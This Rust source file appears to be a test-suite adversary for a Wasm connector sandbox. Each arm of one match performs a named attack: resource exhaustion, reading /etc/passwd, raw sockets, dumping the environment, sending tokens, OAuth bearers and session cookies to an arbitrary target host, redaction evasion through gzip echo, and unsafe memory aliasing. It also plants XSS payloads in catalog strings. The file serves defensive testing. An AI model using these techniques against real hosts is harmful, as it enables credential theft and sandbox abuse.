//! A connector that misbehaves on request: the tests' adversary.
//!
//! `fetch` (and `check`) do what `config.attack` says: spin forever, eat
//! memory (at once, or leaking more each call), recurse without end,
//! return or log far too much, aim secrets at hosts they are not bound to,
//! reveal a secret not marked `reveal`, read files, open sockets, read a
//! secret back through a compressing or transforming echo, confirm
//! guesses, set host-owned headers, send tens of thousands of headers or
//! placeholders, loop on refused requests or reveals, return too many or
//! too deeply nested records, never finish a stream, stage records through
//! `wharf:pages` outside `fetch`, past the limits or before failing, name one
//! large string from many records. Two benign modes
//! (`echo`, `sleep`) let tests run a well-behaved call beside a hostile
//! one; a third (`scan-check`) runs the SDK's checked scan as compiled for
//! Wasm against `serde_json`.
//!
//! It is kept as one file past 600 lines on purpose: each attack is one arm
//! of one `match` that the tests name by string, and the arms read best side
//! by side, where a reviewer sees every way the sandbox is attacked.

use std::hint::black_box;
use std::io::Write;

use serde::Deserialize;
use wharf_sdk::auth::{Encoding, Hash, HostRequest, Login, SigningKey, TokenAt};
use wharf_sdk::catalog::RateBudget;
use wharf_sdk::http::Request;
use wharf_sdk::prelude::*;

#[derive(Deserialize)]
pub struct Config {
    attack: String,
    #[serde(default)]
    url: String,
    #[serde(default)]
    addr: String,
    /// Where `send-secret` sends (default: `url`, the host the secret is bound to).
    #[serde(default)]
    target: Option<String>,
    #[serde(default)]
    n: u64,
    /// A value the guest sends as is (`guess`), or a header value.
    #[serde(default)]
    value: String,
    /// A header name for `set-header`.
    #[serde(default)]
    header: String,
    /// `raw`: the method, headers and body sent as written (placeholders
    /// and all), to `url`.
    #[serde(default)]
    method: String,
    #[serde(default)]
    headers: std::collections::BTreeMap<String, String>,
    #[serde(default)]
    body: Option<String>,
}

const TOKEN: Secret = Secret::new("token");
const SIGNING_KEY: Secret = Secret::new("signing_key");

pub struct Hostile;

impl Connector for Hostile {
    type Config = Config;

    fn spec() -> Spec {
        // Markup in every string a catalog shows: the console must render
        // it as text (tests/e2e/console).
        Spec::new("hostile", "0.1.0")
            .description("Test fixture that attacks the sandbox <script>alert('spec')</script>")
            .catalog(wharf_sdk::catalog::Catalog::new(
                "Hostile \"><img src=x onerror=alert(1) id=injected>",
            ))
            .role(Role::Source)
            // Its pushes attack too (`duplicate-rejections`, `slow-push`).
            .role(Role::Destination)
            .stream(
                StreamSpec::new("out")
                    .description("<img src=x onerror=alert(2) id=injected>"),
            )
            .secret(
                SecretSpec::new("token")
                    .description("sent only to the bound host")
                    .host("{config.url}")
                    .optional(),
            )
            .secret(
                SecretSpec::new("signing_key")
                    .description("revealable where an administrator allows it")
                    .host("https://signing.example.com")
                    .optional(),
            )
            .secret(SecretSpec::new("aws_key_id").optional())
            .secret(SecretSpec::new("aws_secret").optional())
            .secret(SecretSpec::new("hmac_key").optional())
            .secret(SecretSpec::new("jwt_key").optional())
            // Keys the host signs with for `{config.url}` only; their
            // secrets are sent nowhere.
            .signing(
                SigningKey::aws_sigv4("aws", "aws_key_id", "aws_secret", "us-east-1", "ce")
                    .host("{config.url}"),
            )
            .signing(
                SigningKey::hmac(
                    "hmac",
                    "hmac_key",
                    Hash::Sha256,
                    "{timestamp}.{body}",
                    "X-Signature",
                    Encoding::Hex,
                )
                .prefix("sha256=")
                .timestamp_header("X-Timestamp")
                .host("{config.url}"),
            )
            .signing(
                SigningKey::jwt(
                    "jwt",
                    "jwt_key",
                    true,
                    r#"{"iss":"hostile","iat":{now},"exp":{exp}}"#,
                    600,
                )
                .host("{config.url}"),
            )
            // A login session (SAP Business One's shape): the host logs in
            // with the `token` secret as the password and keeps the cookies.
            .login(
                Login::new(
                    HostRequest::new("POST", "{config.login_url}").json_body(
                        r#"{"CompanyDB":"SBODEMOUS","UserName":"manager","Password":"{{secret:token}}"}"#,
                    ),
                    TokenAt::Cookies(vec!["B1SESSION".into(), "ROUTEID".into()]),
                )
                .lifetime_secs(1800)
                .relogin_on(401)
                .logout(
                    HostRequest::new("POST", "{config.logout_url}")
                        .header("Cookie", "{{session:token}}"),
                ),
            )
            // A budget for `{config.budget_url}` (none when it is not set).
            .rate_budget(
                RateBudget::new("{config.budget_url}")
                    .per(5, 3600)
                    .concurrency(2),
            )
            .host("{config.url}")
    }

    fn check(config: &Config) -> Result<()> {
        attack(config).map(|_| ())
    }

    fn fetch(config: &Config, _stream: &str, cursor: Option<&str>) -> Result<Page> {
        match config.attack.as_str() {
            "pending" => pending(config, cursor),
            "clock" => clock(cursor),
            _ => attack(config),
        }
    }
}

/// Reads both clocks, then fails when the cursor says `fail`: a failed call
/// whose clock readings a run's cassette must keep.
fn clock(cursor: Option<&str>) -> Result<Page> {
    let started = std::time::Instant::now();
    let wall_ms = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as u64);
    black_box(started.elapsed());
    if cursor == Some("fail") {
        return Err(Error::Fatal(
            "failed on purpose after reading the clocks".into(),
        ));
    }
    one(json!({ "wall_ms": wall_ms }))
}

/// A job the source polls: pending `n` times (1 s each), then one record
/// and a row it could not read.
fn pending(config: &Config, cursor: Option<&str>) -> Result<Page> {
    let polled: u64 = cursor
        .and_then(|c| c.strip_prefix("job-1:poll-"))
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    if polled < config.n {
        return Ok(Page::pending(format!("job-1:poll-{}", polled + 1), 1));
    }
    let record = Record::from_value("out", json!({ "i": 1, "polled": polled }))?.key_from("i");
    Ok(
        Page::last(vec![record], Some("job-1:done".into())).row_error(
            "out",
            7,
            Some("amount"),
            "not a number: `12,5O`",
        ),
    )
}

fn one(value: Value) -> Result<Page> {
    Ok(Page::last(vec![Record::from_value("out", value)?], None))
}

fn attack(config: &Config) -> Result<Page> {
    match config.attack.as_str() {
        "echo" => {
            let records = (0..config.n.max(1))
                .map(|i| Record::from_value("out", json!({ "i": i })).map(|r| r.key_from("i")))
                .collect::<Result<Vec<_>>>()?;
            Ok(Page::last(records, Some("done".into())))
        }
        "scan-check" => {
            // Benign: the SDK's checked scan as compiled for Wasm (its
            // string skip uses SIMD there, words natively) against
            // serde_json, on strings with a byte that needs a look at every
            // offset across the vector and word boundaries.
            let fillers = ["a", " ", "é", "\u{7f}", "~"];
            let inserts = [
                "\\\"", "\\\\", "\\n", "\\u00e9", "\u{1}", "\u{1f}", "\"", "\t",
            ];
            let mut checked = 0u64;
            let mut wrong = Vec::new();
            for len in 0..40 {
                for fill in fillers {
                    for at in 0..=len {
                        for insert in inserts {
                            let mut body = fill.repeat(len);
                            body.insert_str(at * fill.len(), insert);
                            let text = format!("{{\"s\":\"{body}\",\"n\":1}}");
                            let expected = serde_json::from_str::<Value>(&text).is_ok();
                            if wharf_sdk::raw::is_plain_object(&text, 128) != expected {
                                wrong.push(text);
                            }
                            checked += 1;
                        }
                    }
                }
            }
            wrong.truncate(5);
            one(json!({ "checked": checked, "wrong": wrong }))
        }
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_millis(config.n));
            one(json!({ "slept_ms": config.n }))
        }
        "spin" => {
            let mut x = 0u64;
            loop {
                x = black_box(x.wrapping_add(1));
            }
        }
        "memory" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                black_box(&hoard);
            }
        }
        // Keep `n` MiB more on every call (a connector that leaks): the
        // instance's memory grows by as much each call.
        "leak" => {
            static LEAKED: std::sync::Mutex<Vec<Vec<u8>>> = std::sync::Mutex::new(Vec::new());
            let mut leaked = LEAKED.lock().unwrap_or_else(|e| e.into_inner());
            leaked.extend((0..config.n).map(|_| vec![1u8; 1 << 20]));
            black_box(&*leaked);
            one(json!({ "leaked_mib": leaked.len() }))
        }
        // Hold `n` MiB at once, then answer: within a limit that allows
        // it, the call succeeds.
        "allocate" => {
            let held: Vec<Vec<u8>> = (0..config.n).map(|_| vec![1u8; 1 << 20]).collect();
            black_box(&held);
            one(json!({ "allocated_mib": held.len() }))
        }
        "recursion" => {
            let limit = if config.n == 0 { u64::MAX } else { config.n };
            one(json!({ "result": recurse(0, limit) }))
        }
        "huge-output" => {
            let blob = "x".repeat(config.n as usize);
            one(json!({ "blob": blob }))
        }
        "log-flood" => {
            for i in 0..config.n {
                wharf_sdk::info!("flood line {i}");
            }
            one(json!({ "logged": config.n }))
        }
        "print-flood" => {
            let mut out = std::io::stdout();
            for i in 0..config.n {
                if writeln!(out, "print line {i}").is_err() {
                    return Err(Error::Fatal(format!("stdout refused line {i}")));
                }
            }
            one(json!({ "printed": config.n }))
        }
        "panic" => panic!("hostile guest panicked on purpose"),
        "request" => {
            let resp = Request::get(&config.url).send()?;
            wharf_sdk::info!("upstream said: {}", resp.text());
            one(json!({ "status": resp.status, "body": resp.text(), "headers": resp.headers }))
        }
        "raw" => {
            // Exactly the request the config describes: how the host treats
            // placeholders, encoders and methods is what is tested.
            let url = config.target.as_deref().unwrap_or(&config.url);
            let mut req = Request::new(config.method.as_str(), url);
            for (k, v) in &config.headers {
                req = req.header(k.as_str(), v.as_str());
            }
            if let Some(b) = &config.body {
                req = req.body(b.as_bytes().to_vec());
            }
            let resp = req.send()?;
            one(json!({ "status": resp.status, "body": resp.text(), "headers": resp.headers }))
        }
        "requests" => {
            let mut bytes = 0;
            for _ in 0..config.n.max(1) {
                bytes += Request::get(&config.url).send()?.body.len();
            }
            one(json!({ "requests": config.n.max(1), "bytes": bytes }))
        }
        "send-secret" => {
            let resp = Request::get(config.target.as_deref().unwrap_or(&config.url))
                .header_secret("X-Token", &TOKEN)
                .send()?;
            let body = resp.text();
            wharf_sdk::info!("upstream echoed: {body}");
            if resp.status >= 400 {
                return Err(Error::Fatal(format!("upstream refused: {body}")));
            }
            one(json!({ "status": resp.status, "body": body }))
        }
        "secret-in-url" => {
            let resp = Request::get(&config.url)
                .query_secret("token", &TOKEN)
                .send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "secret-in-host" => {
            let url = format!("http://{}.example.com/", TOKEN.placeholder());
            let resp = Request::get(url).send()?;
            one(json!({ "status": resp.status }))
        }
        "inflate-echo" => {
            // The original compressed-echo attack: the secret goes to the
            // bound echo host, and whatever comes back compressed is inflated
            // here, where the host's redactor cannot look.
            let resp = Request::get(&config.url)
                .header_secret("X-Token", &TOKEN)
                .send()?;
            let body = inflate(&resp.body);
            one(json!({ "status": resp.status, "body": body, "headers": resp.headers }))
        }
        "guess" => {
            // Sends `value` as written; an oracle would answer differently
            // when it equals the secret.
            let resp = Request::get(config.target.as_deref().unwrap_or(&config.url))
                .header("X-Guess", config.value.as_str())
                .send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "set-header" => {
            let resp = Request::get(&config.url)
                .header(config.header.as_str(), config.value.as_str())
                .send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "many-headers" => {
            let mut req = Request::get(&config.url);
            for i in 0..config.n {
                req = req.header(format!("x-h{i}"), "v");
            }
            let resp = req.send()?;
            one(json!({ "status": resp.status }))
        }
        "placeholder-bomb" => {
            let body = TOKEN.placeholder().repeat(config.n as usize);
            let resp = Request::post(&config.url).body(body).send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "deny-loop" => {
            // Keep sending what the host refuses, as fast as it answers.
            let mut refused = 0u64;
            let target = config.target.as_deref().unwrap_or(&config.url);
            loop {
                match Request::get(target).send() {
                    Err(Error::Config(_)) => refused += 1,
                    Err(e) => return Err(Error::Fatal(format!("after {refused} refusals: {e}"))),
                    Ok(r) => return one(json!({ "refused": refused, "status": r.status })),
                }
            }
        }
        "reveal-loop" => {
            let mut answers = 0u64;
            loop {
                let _ = black_box(TOKEN.reveal());
                answers += 1;
                if config.n > 0 && answers >= config.n {
                    return one(json!({ "reveals": answers }));
                }
            }
        }
        "send-oauth" => {
            // The connection's OAuth2 token, aimed at `target`.
            let resp = Request::get(config.target.as_deref().unwrap_or(&config.url))
                .oauth_bearer()
                .send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "sign" => {
            // A request signed by the host with the key `value`, aimed at
            // `target` (default: `url`, the host the keys are bound to).
            let resp = Request::post(config.target.as_deref().unwrap_or(&config.url))
                .header("Content-Type", "application/json")
                .body(br#"{"hello":"world"}"#.to_vec())
                .sign(&config.value)
                .send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "inputs" => {
            // Every line of every input file of the run, as a record.
            let mut records = Vec::new();
            for file in wharf_sdk::blob::inputs() {
                for (i, line) in file.blob.lines().enumerate() {
                    let data = json!({
                        "file": file.name,
                        "type": file.content_type,
                        "line": i + 1,
                        "text": line?,
                    });
                    records.push(Record::from_value("out", data)?.with_key(format!(
                        "{}:{}",
                        file.name,
                        i + 1
                    )));
                }
            }
            Ok(Page::last(records, None))
        }
        "state" => {
            // A counter and a tenant id kept per connection across runs;
            // more keys than the host keeps, when `n` asks for them.
            let visits: u64 = wharf_sdk::state::get("visits")
                .and_then(|v| v.parse().ok())
                .unwrap_or(0)
                + 1;
            wharf_sdk::state::set("visits", &visits.to_string(), None)?;
            wharf_sdk::state::set("tenant", &config.value, Some(3600))?;
            for i in 0..config.n {
                wharf_sdk::state::set(&format!("k{i}"), "v", None)?;
            }
            one(json!({ "visits": visits, "tenant": wharf_sdk::state::get("tenant") }))
        }
        "keep-body" => {
            // A download kept in the host, read back in chunks: its length
            // and a checksum, never all of it in guest memory at once.
            let resp = Request::get(&config.url).keep_body().send()?;
            let blob = wharf_sdk::blob::Blob(
                resp.blob
                    .clone()
                    .ok_or_else(|| Error::fatal("no blob kept"))?,
            );
            let (mut len, mut sum) = (0u64, 0u64);
            for chunk in blob.chunks() {
                let chunk = chunk?;
                len += chunk.len() as u64;
                sum = chunk
                    .iter()
                    .fold(sum, |s, b| s.wrapping_mul(31).wrapping_add(u64::from(*b)));
            }
            let data = json!({ "len": len, "size": blob.size()?, "sum": sum.to_string(), "inline": resp.body.len() });
            // The file goes with its record, for a destination to send on.
            Ok(Page::last(
                vec![
                    Record::from_value("out", data)?
                        .with_key("download")
                        .with_blob(&blob),
                ],
                None,
            ))
        }
        "blob-flood" => {
            // Write `n` MiB into blobs of this run, 1 MiB at a time.
            let blob = wharf_sdk::blob::Blob::create()?;
            let chunk = vec![7u8; 1 << 20];
            for _ in 0..config.n {
                blob.append(&chunk)?;
            }
            one(json!({ "size": blob.size()? }))
        }
        "session-soft-expiry" => {
            // A system that says "session expired" in a 200 answer: the
            // connector tells the host with `auth-expired`.
            let resp = Request::get(&config.url)
                .header("Cookie", "{{session:token}}")
                .send()?;
            let body = resp.text();
            if body.contains("Invalid session") {
                return Err(Error::AuthExpired(
                    "the service says the session is invalid".into(),
                ));
            }
            one(json!({ "status": resp.status, "body": body }))
        }
        "send-session" => {
            // The login session's cookies, aimed at `target` (default: `url`).
            let resp = Request::get(config.target.as_deref().unwrap_or(&config.url))
                .header("Cookie", "{{session:token}}")
                .send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "send-credentials" => {
            // Credentials written by the guest itself (no secret), which a
            // redirect to another origin must not carry along.
            let resp = Request::get(&config.url)
                .header("Authorization", "Basic dXNlcjpwYXNzd29yZA==")
                .header("Cookie", "session=guest-cookie")
                .send()?;
            one(json!({ "status": resp.status, "body": resp.text() }))
        }
        "huge-error" => Err(Error::Fatal("e".repeat(config.n as usize))),
        "endless" => {
            // Every page says another follows.
            let records = (0..config.n.max(1))
                .map(|i| Record::from_value("out", json!({ "i": i, "pad": "x".repeat(64) })))
                .collect::<Result<Vec<_>>>()?;
            Ok(Page::new(records, Some("again".into()), true))
        }
        "reveal-token" => {
            let value = TOKEN.reveal()?;
            one(json!({ "token": value }))
        }
        "reveal-signing-key" => {
            let value = SIGNING_KEY.reveal()?;
            wharf_sdk::info!("signing with {value}");
            one(json!({ "len": value.len() }))
        }
        "open-file" => match std::fs::read_to_string("/etc/passwd") {
            Ok(text) => one(json!({ "passwd": text })),
            Err(e) => Err(Error::Fatal(format!("open /etc/passwd: {e}"))),
        },
        "write-file" => match std::fs::write("/tmp/wharf-escape", b"x") {
            Ok(()) => one(json!({ "wrote": true })),
            Err(e) => Err(Error::Fatal(format!("write /tmp/wharf-escape: {e}"))),
        },
        "tcp" => match std::net::TcpStream::connect(config.addr.as_str()) {
            Ok(_) => one(json!({ "connected": config.addr })),
            Err(e) => Err(Error::Fatal(format!("tcp connect {}: {e}", config.addr))),
        },
        "env" => one(json!({
            "env": std::env::vars().collect::<Vec<_>>(),
            "args": std::env::args().collect::<Vec<_>>(),
            "cwd": std::env::current_dir().ok().map(|p| p.display().to_string()),
            "time": std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_secs())
                .unwrap_or(0),
        })),
        other => Err(Error::Config(format!("unknown attack `{other}`"))),
    }
}

/// The body inflated, if it is gzip; else as text.
fn inflate(body: &[u8]) -> String {
    use std::io::Read;
    if body.starts_with(&[0x1f, 0x8b]) {
        let mut out = String::new();
        if flate2::read::GzDecoder::new(body)
            .read_to_string(&mut out)
            .is_ok()
        {
            return out;
        }
    }
    String::from_utf8_lossy(body).into_owned()
}

/// Recursion on scalars only, so every frame lives on the WebAssembly
/// stack (not Rust's shadow stack in linear memory) and `limit` (opaque to
/// the optimiser) keeps it from becoming a loop.
#[inline(never)]
fn recurse(n: u64, limit: u64) -> u64 {
    if n >= limit {
        return n;
    }
    recurse(n + 1, limit).rotate_left(1) ^ n
}

/// The contract's raw types, for attacks the SDK's typed records cannot
/// express (a record nested 100,000 levels deep would overflow the guest's
/// own stack as a `Value`). Only a WebAssembly build exports it.
#[cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]
mod raw {
    use wharf_sdk::bindings::exports::wharf::connector::connector::Guest;
    use wharf_sdk::bindings::wharf::connector::types as wit;

    use super::Hostile;
    use wharf_sdk::__private as sdk;

    // `wharf:pages`, the host's page slicing, which the SDK's Rust world
    // does not import: the attacks below stage records where and as much as
    // the host must refuse.
    wit_bindgen::generate!({
        path: "../../wit/pages-0.1.0",
        world: "wharf:pages/host",
    });
    use wharf::pages::pages::stage;

    pub struct Export;

    /// A page of `n` empty records, as JSON text.
    fn empties(n: usize) -> Vec<u8> {
        let mut body = b"[".to_vec();
        for i in 0..n {
            body.extend_from_slice(if i == 0 { b"{}" } else { b",{}" });
        }
        body.push(b']');
        body
    }

    fn page(records: Vec<wit::Record>) -> wit::Page {
        wit::Page {
            records,
            cursor: None,
            more: false,
            pending: None,
            row_errors: Vec::new(),
        }
    }

    /// The `stage-*` attacks of `fetch`: `None` for any other attack.
    fn stage_attack(
        attack: &str,
        n: usize,
        cursor: Option<&str>,
    ) -> Option<Result<wit::Page, wit::Error>> {
        Some(match attack {
            // Staged records and the page's own together past the limit.
            "stage-many" => stage("out", &empties(n), "", None)
                .map(|_| page((0..n).map(|_| record("{}".into())).collect()))
                .map_err(wit::Error::Fatal),
            // Staging until the host refuses: what it holds stays bounded.
            "stage-flood" => loop {
                if let Err(e) = stage("out", &empties(10_000), "", None) {
                    break Err(wit::Error::Fatal(e));
                }
            },
            // A stream name the host would copy into every record, and a
            // page of more tiny records than a call may return: refused
            // before the host builds anything.
            "stage-long-stream" => stage(&"s".repeat(n), &empties(10), "", None)
                .map(|_| page(Vec::new()))
                .map_err(wit::Error::Fatal),
            "stage-tiny-records" => stage("out", &empties(n), "", None)
                .map(|_| page(Vec::new()))
                .map_err(wit::Error::Fatal),
            // A record nested past the call's depth limit, staged.
            "stage-deep" => {
                let body = format!("[{{\"a\":{}1{}}}]", "[".repeat(n), "]".repeat(n));
                stage("out", body.as_bytes(), "", None)
                    .map(|_| page(Vec::new()))
                    .map_err(wit::Error::Fatal)
            }
            // Stage, then fail: the next call must not see them.
            "stage-then-fail" if cursor == Some("fail") => {
                match stage("out", &empties(3), "", None) {
                    Ok(_) => Err(wit::Error::Fatal("failed after staging".into())),
                    Err(e) => Err(wit::Error::Fatal(e)),
                }
            }
            "stage-then-fail" => Ok(page(vec![record("{\"own\":1}".into())])),
            _ => return None,
        })
    }

    /// 100,000 records whose `data` all point at one string of `n` bytes in
    /// this guest's memory: little for the guest, 100,000 copies for a host
    /// that lifts each string on its own. Each record owns the same buffer,
    /// which Rust forbids and the canonical ABI cannot see; what this
    /// guest's memory becomes after the call is not the host's concern.
    #[allow(unsafe_code)]
    fn aliased_records(n: usize) -> Vec<wit::Record> {
        let text = format!("{{\"a\":\"{}\"}}", "x".repeat(n));
        let mut text = std::mem::ManuallyDrop::new(text);
        let (ptr, len, capacity) = (text.as_mut_ptr(), text.len(), text.capacity());
        (0..100_000)
            // SAFETY: none; the aliasing is the attack.
            .map(|_| record(unsafe { String::from_raw_parts(ptr, len, capacity) }))
            .collect()
    }

    fn record(data: String) -> wit::Record {
        wit::Record {
            stream: "out".into(),
            key: None,
            op: wit::Op::Upsert,
            data,
            blob: None,
        }
    }

    impl Guest for Export {
        fn spec() -> wit::ConnectorSpec {
            sdk::spec::<Hostile>()
        }
        fn check(config: String) -> Result<(), wit::Error> {
            let parsed: serde_json::Value = serde_json::from_str(&config).unwrap_or_default();
            if parsed["attack"] == "stage-outside-fetch" {
                // Staging anywhere but `fetch`: the host says no.
                return stage("out", b"[{}]", "", None)
                    .map(|n| Err(wit::Error::Fatal(format!("staged {n} records in check"))))
                    .unwrap_or_else(|e| Err(wit::Error::Config(e)));
            }
            sdk::check::<Hostile>(config)
        }
        fn discover(config: String) -> Result<Vec<wit::StreamSpec>, wit::Error> {
            sdk::discover::<Hostile>(config)
        }
        fn fetch(
            config: String,
            stream: String,
            cursor: Option<String>,
        ) -> Result<wit::Page, wit::Error> {
            let parsed: serde_json::Value = serde_json::from_str(&config).unwrap_or_default();
            let n = parsed["n"].as_u64().unwrap_or(0) as usize;
            let attack = parsed["attack"].as_str().unwrap_or_default();
            if let Some(answer) = stage_attack(attack, n, cursor.as_deref()) {
                return answer;
            }
            match parsed["attack"].as_str() {
                Some("many-records") => Ok(wit::Page {
                    records: (0..n).map(|_| record("{}".into())).collect(),
                    cursor: None,
                    more: false,
                    pending: None,
                    row_errors: Vec::new(),
                }),
                Some("aliased-strings") => Ok(page(aliased_records(n))),
                Some("deep-record") => Ok(wit::Page {
                    records: vec![record(format!(
                        "{{\"a\":{}1{}}}",
                        "[".repeat(n),
                        "]".repeat(n)
                    ))],
                    cursor: None,
                    more: false,
                    pending: None,
                    row_errors: Vec::new(),
                }),
                _ => sdk::fetch::<Hostile>(config, stream, cursor),
            }
        }
        fn map(config: String, records: Vec<wit::Record>) -> Result<Vec<wit::Record>, wit::Error> {
            sdk::map::<Hostile>(config, records)
        }
        fn push(config: String, records: Vec<wit::Record>) -> Result<wit::PushResult, wit::Error> {
            let parsed: serde_json::Value = serde_json::from_str(&config).unwrap_or_default();
            let n = parsed["n"].as_u64().unwrap_or(0) as usize;
            match parsed["attack"].as_str() {
                // The same record rejected over and over.
                Some("duplicate-rejections") => Ok(wit::PushResult {
                    created: 0,
                    updated: 0,
                    deleted: 0,
                    rejected: (0..n)
                        .map(|_| wit::Rejection {
                            index: 0,
                            field: None,
                            message: String::new(),
                        })
                        .collect(),
                    accepted_job: None,
                }),
                // A destination slower than the run's time limit.
                Some("slow-push") => {
                    std::thread::sleep(std::time::Duration::from_millis(n as u64));
                    Ok(wit::PushResult {
                        created: records.len() as u32,
                        updated: 0,
                        deleted: 0,
                        rejected: Vec::new(),
                        accepted_job: None,
                    })
                }
                _ => sdk::push::<Hostile>(config, records),
            }
        }
        fn receive(
            config: String,
            delivery: wit::Incoming,
        ) -> Result<Vec<wit::Record>, wit::Error> {
            sdk::receive::<Hostile>(config, delivery)
        }
    }

    #[cfg(target_arch = "wasm32")]
    wharf_sdk::bindings::__export_bindings!(Export with_types_in wharf_sdk::bindings);
}
